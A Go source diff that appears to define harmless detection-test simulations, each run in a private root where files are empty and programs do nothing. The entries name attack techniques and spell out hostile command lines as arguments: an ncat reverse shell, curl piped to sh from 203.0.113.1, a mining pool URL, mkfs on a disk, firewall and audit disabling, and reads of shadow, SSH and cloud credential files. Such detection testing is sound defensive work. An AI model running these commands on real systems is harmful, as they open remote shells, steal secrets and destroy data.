@@ -1,13 +1,80 @@
 package simulate
 
+import (
+	"path/filepath"
+	"slices"
+)
+
 // inPrivateRoot makes a simulation of one step in a private root on the host: see root.
-func inPrivateRoot(rule, does string, files map[string]string, step string, args ...string) Simulation {
-	return Simulation{Rule: rule, Does: does, Needs: []Need{Root, Static}, run: func(e *env) error { return e.inRoot(files, nil, step, args...) }}
+func inPrivateRoot(rule, does string, r root, step string, args ...string) Simulation {
+	return Simulation{Rule: rule, Does: does, Needs: []Need{Root, Static}, run: func(e *env) error { return e.inRoot(r, step, args...) }}
+}
+
+// writes makes a simulation that writes a file in a private root, where it means nothing.
+func writes(rule, path string) Simulation {
+	return inPrivateRoot(rule, "Writes "+path+" in a private root, where nothing reads it.",
+		root{Files: map[string]string{filepath.Dir(path) + "/": ""}}, "write-file", path)
+}
+
+// reads makes a simulation that opens a file in a private root, where it is empty.
+func reads(rule, path string) Simulation {
+	return inPrivateRoot(rule, "Opens "+path+" in a private root, where it is an empty file.",
+		root{Files: map[string]string{path: ""}}, "open-for-reading", path)
+}
+
+// starts makes a simulation that starts a program in a private root: one of that name that does nothing.
+func starts(rule, path string, argv ...string) Simulation {
+	return inPrivateRoot(rule, "Starts a program in a private root that is called "+path+" and does nothing.",
+		root{Programs: []string{path}}, "exec", slices.Concat([]string{path}, argv)...)
 }
 
 var fileSimulations = []Simulation{
-	inPrivateRoot("shadow_file_read", "Opens /etc/shadow in a private root, where it is an empty file.",
-		map[string]string{"/etc/shadow": ""}, "open-for-reading", "/etc/shadow"),
-	inPrivateRoot("scheduled_task_write", "Writes /etc/cron.d/simulation in a private root, where no cron looks.",
-		map[string]string{"/etc/cron.d/": ""}, "write-file", "/etc/cron.d/simulation"),
+	reads("shadow_file_read", "/etc/shadow"),
+	reads("kubernetes_credentials_read", "/etc/kubernetes/pki/ca.key"),
+	reads("ssh_private_key_read", "/root/.ssh/id_ed25519"),
+	reads("cloud_credentials_read", "/root/.aws/credentials"),
+	reads("shell_history_read", "/root/.bash_history"),
+	reads("input_device_read", "/dev/input/event0"),
+
+	writes("scheduled_task_write", "/etc/cron.d/simulation"),
+	writes("systemd_unit_write", "/etc/systemd/system/simulation.service"),
+	writes("boot_script_write", "/etc/init.d/simulation"),
+	writes("shell_profile_write", "/root/.bashrc"),
+	writes("ssh_authorized_keys_write", "/root/.ssh/authorized_keys"),
+	writes("account_file_write", "/etc/passwd"),
+	writes("sudoers_write", "/etc/sudoers.d/simulation"),
+	writes("pam_config_write", "/etc/pam.d/simulation"),
+	writes("dynamic_linker_hijack", "/etc/ld.so.preload"),
+	writes("kernel_module_autoload", "/etc/modules-load.d/simulation.conf"),
+	writes("udev_rule_write", "/etc/udev/rules.d/99-simulation.rules"),
+	writes("package_hook_write", "/etc/apt/apt.conf.d/99simulation"),
+	writes("desktop_autostart_write", "/root/.config/autostart/simulation.desktop"),
+	writes("system_binary_write", "/usr/bin/simulation"),
+	writes("audit_config_write", "/etc/audit/rules.d/simulation.rules"),
+	writes("block_device_write", "/dev/sdsimulation"),
+	inPrivateRoot("kernel_hardening_off", "Opens /proc/sys/kernel/randomize_va_space for writing, and writes nothing.",
+		root{}, "open-for-writing", "/proc/sys/kernel/randomize_va_space"),
+
+	starts("enumeration_tool", "/tmp/linpeas.sh", "linpeas.sh"),
+	starts("reverse_shell_command", "/usr/bin/ncat", "ncat", "203.0.113.1", "4444", "-e", "/bin/sh"),
+	starts("download_and_execute", "/bin/sh", "sh", "-c", "curl -s http://203.0.113.1/simulation | sh"),
+	starts("encoded_command", "/bin/sh", "sh", "-c", "echo dHJ1ZQ== | base64 -d | sh"),
+	starts("crypto_miner", "/tmp/simulation", "simulation", "-o", "stratum+tcp://203.0.113.1:3333"),
+	starts("disk_destroyed", "/usr/sbin/mkfs.ext4", "mkfs.ext4", "/dev/sdsimulation"),
+	starts("recovery_inhibited", "/usr/sbin/zfs", "zfs", "destroy", "simulation@snapshot"),
+	starts("security_tool_stopped", "/usr/bin/systemctl", "systemctl", "stop", "auditd"),
+	starts("firewall_flushed", "/usr/sbin/nft", "nft", "flush", "ruleset"),
+	starts("audit_disabled", "/usr/sbin/auditctl", "auditctl", "-D"),
+	starts("file_capabilities_set", "/usr/sbin/setcap", "setcap", "cap_setuid+ep", "/tmp/simulation"),
+	starts("system_file_timestomp", "/usr/bin/touch", "touch", "-r", "/usr/bin/ls", "/usr/bin/simulation"),
+	starts("immutable_flag_changed", "/usr/bin/chattr", "chattr", "+i", "/tmp/simulation"),
+	starts("hidden_executable", "/tmp/.simulation/program", "program"),
+	starts("kernel_thread_masquerade", "/usr/bin/simulation", "[kworker/0:1]"),
+	starts("sudo_heap_overflow", "/usr/bin/sudo", "sudoedit", "-s", `simulation\`),
+	starts("tunnel_tool", "/usr/local/bin/chisel", "chisel", "client", "203.0.113.1"),
+	starts("ssh_port_forward", "/usr/bin/ssh", "ssh", "-R", "2222:localhost:22", "simulation"),
+	inPrivateRoot("preloaded_library", "Starts a statically linked program, which loads no library, with LD_PRELOAD=/tmp/simulation.so.",
+		root{Programs: []string{"/usr/bin/simulation"}}, "exec-with", "LD_PRELOAD=/tmp/simulation.so", "/usr/bin/simulation", "simulation"),
+	inPrivateRoot("web_shell", "Starts, from this binary under the name /usr/sbin/nginx, a program that is called /bin/sh and does nothing.",
+		root{Links: []string{"/usr/sbin/nginx"}, Programs: []string{"/bin/sh"}}, "as", "/usr/sbin/nginx", "exec", "/bin/sh", "sh"),
 }
